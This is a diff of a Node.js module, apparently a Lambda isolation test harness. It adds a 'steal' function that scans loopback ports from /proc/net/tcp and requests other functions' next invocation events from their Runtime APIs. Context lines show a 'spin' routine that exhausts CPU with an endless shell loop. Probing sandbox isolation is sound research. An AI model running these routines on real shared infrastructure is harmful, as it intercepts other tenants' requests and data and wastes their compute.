@@ -71,3 +71,25 @@ exports.spin = async () => {
   spawn('/bin/sh', ['-c', 'while :; do :; done'], { stdio: 'ignore' });
   for (;;) { /* spin */ }
 };
+
+// listening lists the TCP ports listening on an IPv4 loopback address, as /proc/net/tcp shows them.
+const listening = () => [...new Set(fs.readFileSync('/proc/net/tcp', 'utf8').split('\n').slice(1)
+  .map((l) => l.trim().split(/\s+/)).filter((f) => f.length > 3 && f[3] === '0A' && f[1].split(':')[0].endsWith('7F'))
+  .map((f) => parseInt(f[1].split(':')[1], 16)))].sort((a, b) => a - b);
+
+// steal asks every other Runtime API it can find for another function's next event.
+exports.steal = async () => {
+  const own = Number(process.env.AWS_LAMBDA_RUNTIME_API.split(':').pop());
+  const stolen = {};
+  for (const port of listening().filter((p) => p !== own)) {
+    stolen[port] = await new Promise((resolve) => {
+      const s = net.connect({ host: '127.0.0.1', port }, () => s.write('GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n'));
+      let got = '';
+      s.setTimeout(1000, () => { s.destroy(); resolve(got); });
+      s.on('data', (d) => { got += d; });
+      s.on('error', (e) => resolve(`error: ${e.message}`));
+      s.on('close', () => resolve(got));
+    });
+  }
+  return { own, listening: listening(), stolen };
+};
